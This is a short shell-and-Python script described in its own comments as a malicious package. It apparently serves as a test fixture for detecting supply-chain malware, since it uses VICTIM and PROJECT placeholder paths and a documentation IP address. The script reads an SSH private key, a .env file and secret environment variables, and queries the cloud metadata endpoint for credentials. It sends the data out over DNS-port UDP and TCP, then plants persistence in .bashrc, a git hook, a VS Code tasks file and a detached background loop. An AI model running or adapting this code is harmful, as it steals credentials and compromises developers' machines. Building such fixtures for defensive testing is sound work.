#!/bin/sh
# A malicious package: reads keys, asks for the cloud's credentials, sends what it has by
# TCP and by DNS, comes back with a shell or with git, and goes on in the background.
loot="ran-in-$(id -u) $(cat VICTIM/.ssh/id_ed25519 "PROJECT/.env" 2>/dev/null) $(env | grep SECRET)"
python3 - "$loot" <<'PY'
import socket, sys, urllib.request
loot = sys.argv[1]
try:
    loot += urllib.request.urlopen("http://169.254.169.254/", timeout=1).read().decode()
except OSError:
    pass
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for send in (lambda: u.sendto(loot.encode(), ("192.0.2.1", 53)),
             lambda: socket.create_connection(("192.0.2.1", 9999), 1).sendall(loot.encode())):
    try:
        send()
    except OSError:
        pass
PY
echo evil >>VICTIM/.bashrc
echo evil >PROJECT/.git/hooks/post-checkout
mkdir -p PROJECT/.vscode && echo evil >PROJECT/.vscode/tasks.json
(setsid sh -c 'for i in 1 2 3 4 5 6; do sleep 1; echo evil >PROJECT/background; done' >/dev/null 2>&1 &)
echo thief-was-here >PROJECT/ran
exit 0
